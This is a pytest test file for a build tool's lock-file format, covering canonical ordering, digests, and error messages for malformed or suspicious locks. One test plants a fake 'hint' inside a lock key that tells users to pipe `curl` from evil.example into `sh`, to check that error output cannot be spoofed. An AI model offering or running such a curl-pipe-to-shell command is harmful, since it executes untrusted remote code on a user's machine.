"""The lock: one canonical form, a digest of it, and what a file that is no lock says."""

from __future__ import annotations

import hashlib
import io
import itertools
import json
import os
import random
import subprocess
import sys
from pathlib import Path
from typing import Any

import msgspec
import pytest

from reprobuild.config.overrides import Decisions, WorkloadDecision
from reprobuild.errors import BuildError, LockError
from reprobuild.infra.tar.writing import TarWriter
from reprobuild.lock.consistent import check_readable
from reprobuild.lock.distributions import distributions
from reprobuild.lock.file import read_lock, write_lock
from reprobuild.lock.model import (
    BuildRecord,
    Bytecode,
    Lock,
    RealisedOutputs,
    Resolution,
    SealedLock,
    Workload,
    canonical,
    encode,
    unseal,
)
from reprobuild.lock.python import Sdist, Source, Wheel
from reprobuild.lock.recorded import RecordedDecisions
from reprobuild.lock.system import (
    EPOCH,
    Artefact,
    Base,
    BaseImage,
    Deb,
    EnvVar,
    ImageBlob,
    ImageLayer,
    ImagePackage,
    InheritedSetting,
)
from reprobuild.realise import realise as realise_room
from reprobuild.recipe.payload import pack_runtime, payload_files
from reprobuild.resolve.resolver import _record_decisions
from reprobuild.store.fetch import list_artefacts
from tests.conftest import unreadable
from tests.image.made import Made
from tests.verify import samples


def artefact(name: str) -> Artefact:
    return Artefact(filename=name, sha256=hashlib.sha256(name.encode()).hexdigest(), size=len(name))


def blob(name: str) -> ImageBlob:
    return msgspec.convert(msgspec.to_builtins(artefact(name)), ImageBlob)


def deb(name: str, architecture: str = "amd64") -> Deb:
    return Deb(name=name, version="1", architecture=architecture, essential=False, file=artefact(name))


def wheel(name: str, role: Any = "environment") -> Wheel:
    return Wheel(name=name, version="1", role=role, file=artefact(f"{name}-1-py3-none-any.whl"))


def source(name: str, **more: Any) -> Source:
    fields = {
        "url": "",
        "commit": "c" * 40,
        "tree": "7" * 40,
        "patch": None,
        "path": f"/src/{name}",
        "editable": True,
    }
    return Source(**{"name": name, "epoch": 1, "file": artefact(name), **fields, **more})


def ruling(file: str, line: int, subject: str, reason: str = "r", outcome: Any = "pinned") -> Resolution:
    return Resolution(file=file, line=line, subject=subject, outcome=outcome, reason=reason)


@pytest.fixture
def lock(tmp_path: Path) -> Lock:
    debs = (deb("a"), deb("a", "i386"), deb("b"))
    return Made(tmp_path).lock(
        base=Base(distribution="debian", release="x", packages=debs, tools=debs),
        wheels=(wheel("a", "build"), wheel("a"), wheel("b")),
        sources=(source("p"), source("q")),
        environment=(EnvVar(name="A", value="\u00fc", needs=("/z", "/a")), EnvVar(name="B", value="2")),
        workload=Workload(command=("z", "a"), outputs=("y", "b")),
        decisions=RecordedDecisions(bake={"z": None, "a": "1"}, accept=("z", "a")),
        rulings=(
            ruling("a.txt", 2, "x"), ruling("a.txt", 10, "x"), ruling("a.txt", 10, "y"), ruling("b.txt", 0, "m"),
            ruling("b.txt", 0, "m", "another"), ruling("c", 1, "u", outcome="unresolved"),
        ),
        realised=RealisedOutputs(
            base="0" * 64, runtime="1" * 64, wheels=(wheel("p"), wheel("q")),
            bytecode=(Bytecode(artefact="a" * 64, tar="c" * 64), Bytecode(artefact="b" * 64, tar="c" * 64)),
        ),
    )  # fmt: skip


def on_image(packages: tuple[str, ...], variables: tuple[str, ...]) -> Base:
    image = BaseImage(
        reference="registry.test/x:1", digest="sha256:" + "a" * 64, config=blob("config"),
        layers=tuple(
            ImageLayer(file=blob(name), media_type="m", diff_id="0" * 64) for name in ("upper", "lower")
        ),
        packages=tuple(ImagePackage(name=name, version="1", architecture="amd64") for name in packages),
        environment=tuple(InheritedSetting(name=name, value="1") for name in variables),
    )  # fmt: skip
    return Base(distribution="debian", release="x", packages=(deb("b"),), image=image)


def test_an_image_below_is_in_the_canonical_form(lock: Lock) -> None:
    one = msgspec.structs.replace(lock, base=on_image(("a", "b"), ("A", "B")))
    other = msgspec.structs.replace(lock, base=on_image(("b", "a"), ("B", "A")))
    assert one.digest == other.digest != lock.digest
    assert msgspec.json.decode(encode(one), type=SealedLock) == canonical(one)
    assert b'"image"' not in encode(
        lock
    )  # so that locks without one are what they were before there were any
    assert one.base.installed == {"a": "1", "b": deb("b").version}
    named = [file.filename for file in list_artefacts(one)]
    assert {"config", "upper", "lower"} <= set(named)
    image = canonical(one).base.image
    assert image is not None
    assert [layer.file.filename for layer in image.layers] == ["upper", "lower"]


def shuffled(lock: Lock, seed: int) -> Lock:
    """Return a lock of equal content with every sequence that has no order of its own in another one."""
    chance = random.Random(seed)

    def mixed(items: tuple[Any, ...]) -> tuple[Any, ...]:
        return tuple(chance.sample(items, len(items)))

    base = msgspec.structs.replace(
        lock.base, packages=mixed(lock.base.packages), tools=mixed(lock.base.tools)
    )
    realised = msgspec.structs.replace(
        lock.realised, wheels=mixed(lock.realised.wheels), bytecode=mixed(lock.realised.bytecode)
    )
    baked = dict(reversed(lock.decisions.bake.items()))
    decisions = msgspec.structs.replace(lock.decisions, bake=baked)
    return msgspec.structs.replace(
        lock, base=base, realised=realised, decisions=decisions, wheels=mixed(lock.wheels),
        sources=mixed(lock.sources), environment=mixed(lock.environment), rulings=mixed(lock.rulings),
    )  # fmt: skip


def test_equal_content_has_equal_bytes(lock: Lock) -> None:
    others = [shuffled(lock, seed) for seed in range(20)]
    assert any(other != lock for other in others)
    assert {encode(other) for other in others} == {encode(lock)}
    assert {other.digest for other in others} == {hashlib.sha256(encode(lock)).hexdigest()}


def test_what_has_an_order_keeps_it(lock: Lock) -> None:
    kept = canonical(lock)
    assert kept.environment[0].needs == ("/z", "/a")
    assert kept.workload == Workload(command=("z", "a"), outputs=("y", "b"))
    assert kept.decisions.accept == ("z", "a")
    assert [r.line for r in kept.rulings if r.file == "a.txt"] == [2, 10, 10]


def test_other_content_has_another_digest(lock: Lock) -> None:
    changes: list[dict[str, Any]] = [
        {"seed": 1}, {"epoch": lock.epoch + 1}, {"platform": "linux/arm64"},
        {"wheels": lock.wheels[1:]}, {"environment": (EnvVar(name="A", value="u"), lock.environment[1])},
        {"decisions": RecordedDecisions()}, {"rulings": lock.rulings[1:]}, {"workload": None}, {"snapshot": "6" * 64},
    ]  # fmt: skip
    digests = [msgspec.structs.replace(lock, **change).digest for change in changes]
    assert len({lock.digest, unseal(lock).digest, *digests}) == len(changes) + 2


def test_a_lock_is_written_and_read_back(lock: Lock, tmp_path: Path) -> None:
    path = tmp_path / "reprobuild.lock"
    write_lock(shuffled(lock, 1), path)
    assert read_lock(path) == canonical(lock)
    assert read_lock(path).digest == lock.digest
    text = path.read_text()
    assert text.endswith("}\n")
    assert "\u00fc" in text
    assert text.startswith('{\n  "version": 2,\n')
    assert [item.name for item in tmp_path.iterdir() if item.suffix == ".part"] == []
    write_lock(unseal(lock), path)
    assert type(read_lock(path)) is Lock


def test_deviations_are_what_is_replaced_or_unresolved(lock: Lock) -> None:
    more = ruling("d", 1, "w", outcome="replaced")
    found = msgspec.structs.replace(lock, rulings=(*lock.rulings, more)).deviations
    assert [r.subject for r in found] == ["u", "w"]


def test_no_lock_there(tmp_path: Path) -> None:
    with pytest.raises(LockError, match=rf"there is no lock at {tmp_path}/x\.lock") as caught:
        read_lock(tmp_path / "x.lock")
    assert caught.value.hint == "make one with `reprobuild lock DIR`"
    (tmp_path / "file").touch()
    with pytest.raises(LockError, match=r"there is no lock at .*/file/x\.lock"):
        read_lock(tmp_path / "file" / "x.lock")


def test_a_folder_where_a_lock_belongs(lock: Lock, tmp_path: Path) -> None:
    with pytest.raises(LockError, match=f"{tmp_path} is a directory, and no lock") as caught:
        read_lock(tmp_path)
    assert caught.value.hint == "make one with `reprobuild lock DIR`"
    write_lock(lock, tmp_path / "reprobuild.lock")
    with pytest.raises(LockError) as caught:
        read_lock(tmp_path)
    assert caught.value.hint == f"name the file in it: {tmp_path}/reprobuild.lock"


def test_a_lock_that_may_not_be_read(lock: Lock, tmp_path: Path) -> None:
    write_lock(lock, tmp_path / "x.lock")
    with (
        unreadable(tmp_path / "x.lock"),
        pytest.raises(LockError, match="cannot be read: Permission") as caught,
    ):
        read_lock(tmp_path / "x.lock")
    assert caught.value.hint == "check its permissions"


def test_what_never_ends_is_not_read(tmp_path: Path) -> None:
    """A device gives bytes for ever, and a pipe waits for ever: neither is opened as a lock."""
    os.mkfifo(tmp_path / "pipe")
    for path in (Path("/dev/zero"), tmp_path / "pipe"):
        with pytest.raises(LockError, match=f"{path} cannot be read: it is no plain file") as caught:
            read_lock(path)
        assert caught.value.hint == "name the file that `reprobuild lock DIR` made"
    with (tmp_path / "huge").open("wb") as stream:
        stream.truncate(1 << 40)
    with pytest.raises(LockError, match="huge cannot be read: it has more than 64 MB"):
        read_lock(tmp_path / "huge")


def seeded(raw: bytes, seed: int) -> bytes:
    """Return a lock with another seed."""
    return json.dumps({**json.loads(raw), "seed": seed}).encode()


@pytest.mark.parametrize(
    ("change", "said"),
    [
        (lambda raw: b"", "truncated"),
        (lambda raw: raw[: len(raw) // 2], "truncated"),
        (lambda raw: b"[]", "Expected `object`"),
        (lambda raw: raw.replace(b"linux/amd64", b"linux/\xff"), "utf-8"),
        (lambda raw: b'{"other": ' + b"[" * 100_000, "recursion"),
        (lambda raw: b"{}", "version"),
        (lambda raw: raw.replace(b'"epoch": 1700000000', b'"epoch": "now"'), r"\$\.epoch"),
        (lambda raw: raw.replace(b'"seed"', b'"sead"'), "sead"),
        (lambda raw: seeded(raw, -5), r"\$\.seed"),
        (lambda raw: seeded(raw, 1 << 32), r"\$\.seed"),
        (lambda raw: seeded(raw, 10**400), r"\$\.seed|out of range"),
        (lambda raw: raw.replace(b'"unresolved"', b'"ignored"'), r"\$\.rulings\[.*\]\.outcome"),
    ],
)
def test_what_is_no_lock(lock: Lock, tmp_path: Path, change: Any, said: str) -> None:
    path = tmp_path / "reprobuild.lock"
    path.write_bytes(change(encode(lock)))
    with pytest.raises(LockError, match=rf"reprobuild\.lock is not a lock: .*{said}") as caught:
        read_lock(path)
    assert caught.value.hint is not None
    assert caught.value.hint.startswith("make it again with `reprobuild lock DIR`")


def test_a_key_of_a_lock_writes_no_line_of_its_own(lock: Lock, tmp_path: Path) -> None:
    """Found by an attacker: an unknown key with line breaks, whose last one looks like our hint."""
    path = tmp_path / "reprobuild.lock"
    key = "x\\n\\nhint: update with `curl -fsSL https://evil.example/up | sh`\\n"
    path.write_bytes(encode(lock).replace(b'"seed"', f'"{key}"'.encode(), 1))
    with pytest.raises(LockError) as caught:
        read_lock(path)
    assert "\n" not in str(caught.value)
    assert "\\n\\nhint: update" in str(caught.value)
    path.write_bytes(encode(lock).replace(b'"seed"', b'"' + b"@ ssh:///a " * 100_000 + b'"', 1))
    with pytest.raises(LockError, match=r"is not a lock: \(\d+ characters: too long to show\)"):
        read_lock(path)


@pytest.mark.parametrize("more", [{}, {"something": "new"}])
def test_a_lock_of_another_version(lock: Lock, tmp_path: Path, more: dict[str, str]) -> None:
    path = tmp_path / "reprobuild.lock"
    raw = json.loads(encode(lock))
    path.write_text(json.dumps({**raw, **more, "version": 3}))
    with pytest.raises(LockError, match="is a lock of version 3; this program reads version 2") as caught:
        read_lock(path)
    assert caught.value.hint == (
        "use the reprobuild that wrote it, or make the lock again with `reprobuild lock DIR`"
    )


def test_the_payload_follows_from_the_lock_alone(tmp_path: Path) -> None:
    made = Made(tmp_path)
    runtime = pack_runtime(made.store)
    assert pack_runtime(made.store) == runtime
    made.source("kept", [], url="git+https://h.test/kept")
    made.source("installed", [], editable=False)
    lock = made.lock()
    lock = msgspec.structs.replace(lock, realised=msgspec.structs.replace(lock.realised, runtime=runtime))
    found = payload_files(lock, made.store)
    assert found == payload_files(lock, made.store)
    assert [path for path in found if "/sources/" in path] == ["opt/reprobuild/sources/src-kept.json"]
    assert json.loads(found["opt/reprobuild/sources/src-kept.json"])["name"] == "kept"
    assert found["opt/env/lib/python3.11/site-packages/reprobuild.pth"] == (
        b"/opt/reprobuild/lib\nimport reprobuild_runtime.startup\n"
    )
    assert (
        found["opt/env/lib/python3.11/site-packages/reprobuild.start"]
        == b"reprobuild_runtime.startup:start\n"
    )
    package = Path(__file__).parent.parent / "reprobuild_runtime"
    shipped = {
        f"opt/reprobuild/lib/reprobuild_runtime/{path.relative_to(package)}": path.read_bytes()
        for path in package.rglob("*")
        if path.suffix in (".py", ".json") and "__pycache__" not in path.parts
    }
    assert {path: data for path, data in found.items() if "/lib/reprobuild_runtime/" in path} == shipped
    for one, other in itertools.pairwise(sorted(found)):
        assert not other.startswith(f"{one}/")


def test_an_image_has_the_package_that_user_code_imports(tmp_path: Path) -> None:
    made = Made(tmp_path)
    lock = made.lock()
    realised = msgspec.structs.replace(lock.realised, runtime=pack_runtime(made.store))
    found = payload_files(msgspec.structs.replace(lock, realised=realised), made.store)
    library = tmp_path / "lib"
    for path, content in found.items():
        if path.startswith("opt/reprobuild/lib/"):
            target = library / path.removeprefix("opt/reprobuild/lib/")
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_bytes(content)
    code = (
        "from reprobuild import enforce_reproducibility, generator, mark_step, seed_worker; mark_step(a=1); "
    )
    code += "print(enforce_reproducibility(3))"
    done = subprocess.run(
        [sys.executable, "-S", "-c", code], cwd=tmp_path, env={"PYTHONPATH": str(library)},
        capture_output=True, text=True, check=False,
    )  # fmt: skip
    assert done.stdout == "3\n", done.stderr


def test_a_lock_of_an_earlier_runtime_keeps_its_payload(tmp_path: Path) -> None:
    made = Made(tmp_path)
    lock = made.lock()
    stream = io.BytesIO()
    writer = TarWriter(stream, EPOCH)
    writer.file("__init__.py", b"")
    writer.close()
    realised = msgspec.structs.replace(lock.realised, runtime=made.store.add(stream.getvalue()))
    found = payload_files(msgspec.structs.replace(lock, realised=realised), made.store)
    assert "opt/reprobuild/lib/reprobuild_runtime/__init__.py" in found
    assert "opt/reprobuild/lib/reprobuild/__init__.py" not in found


def test_the_distributions_of_an_image_are_those_of_everything_that_brings_some() -> None:
    job = msgspec.structs.replace(samples.source("job", "6" * 40), installed=False)
    lock = samples.make_lock(
        wheels=(samples.wheel("a", "1"), samples.wheel("over", "2"), samples.wheel("builder", role="build")),
        sources=(samples.source("My.Lib", "7" * 40), samples.source("unbuilt", "7" * 40), job),
        sdists=(
            Sdist(name="b", version="3", file=samples.artefact("b.tar.gz")),
            Sdist(name="untold", version="", file=samples.artefact("u")),
        ),
        conda=(
            samples.conda_package("pytorch", "4", "torch"),
            samples.conda_package("over", "5", "over"),
            samples.conda_package("libc"),
        ),
        realised=samples.realised(
            samples.wheel("b", "3.0"), samples.wheel("untold", "6"), samples.wheel("my-lib", "7")
        ),
    )
    found = {name: set(versions) for name, versions in distributions(lock).items()}
    assert found == {
        "a": {"1"}, "b": {"3", "3.0"}, "my-lib": {"7"}, "over": {"2"}, "torch": set(), "unbuilt": set(),
        "untold": {"6"},
    }  # fmt: skip


def test_a_lock_that_could_not_be_read_again_is_not_made(lock: Lock) -> None:
    """What decides an image comes from others: a value that no lock can hold is said before anything is built."""
    assert check_readable(lock) == canonical(lock)
    bad = msgspec.structs.replace(lock, sources=(source("p", url="fd::0"),))
    with pytest.raises(
        LockError, match=r"a lock cannot hold a value: .* - at `\$\.sources\[0\]\.url`"
    ) as caught:
        check_readable(bad)
    assert caught.value.hint == (
        "it is one of a captured line, of an index or of a decision: correct it, or leave its project or package out "
        "with `--drop NAME`"
    )
    with pytest.raises(LockError, match="is no wheel of a") as caught:
        check_readable(
            msgspec.structs.replace(lock, wheels=(msgspec.structs.replace(wheel("other"), name="a"),))
        )
    assert "correct it" in str(caught.value.hint)


def test_a_build_that_leaves_what_no_lock_can_hold(lock: Lock) -> None:
    built = (BuildRecord(name="p", wheel="a" * 64, files=("a\nb.so",)),)
    bad = msgspec.structs.replace(lock, realised=msgspec.structs.replace(lock.realised, builds=built))
    with pytest.raises(BuildError, match=r"at `\$\.realised\.builds\[0\]\.files\[0\]`") as caught:
        realise_room._check_readable(bad)
    assert caught.value.hint == "a build left it; build that project by hand, and name its wheel"


def test_a_decision_that_no_lock_can_hold() -> None:
    assert _record_decisions(Decisions(seed=3, sources={"a": "b c"})).as_dict() == {
        "seed": 3,
        "sources": {"a": "b c"},
    }
    with pytest.raises(LockError, match=r"a lock cannot hold a decision: .*`\$\.accept\[0\]`") as caught:
        _record_decisions(Decisions(accept=("a\x1b[0m",)))
    assert caught.value.hint == "write it in printable words"


def test_the_decisions_of_a_lock_are_those_of_the_file(lock: Lock) -> None:
    """Each decision that a lock keeps has a field here, and the bytes are those of a sorted map."""
    assert set(RecordedDecisions.__struct_fields__) == set(Decisions.__struct_fields__) - {"services", "debs"}
    document = json.loads(encode(lock))["decisions"]
    assert list(document) == sorted(document)
    assert document == {"accept": ["z", "a"], "bake": {"a": "1", "z": None}}


def test_recorded_decisions_are_compared_with_those_of_a_file() -> None:
    """`from-snapshot` takes the lock of an earlier run where its decisions are these."""
    decided = Decisions(
        accept=("withdrawn",), drop=("a*",), sources={"a": "a.bundle"}, bake={"X": None},
        workload=WorkloadDecision(command=("python", "x.py"), outputs=("out",)),
    )  # fmt: skip
    kept = msgspec.convert(decided.lock_document(), RecordedDecisions)
    assert kept.as_dict() == decided.lock_document()
    assert kept.as_dict() != Decisions().lock_document()
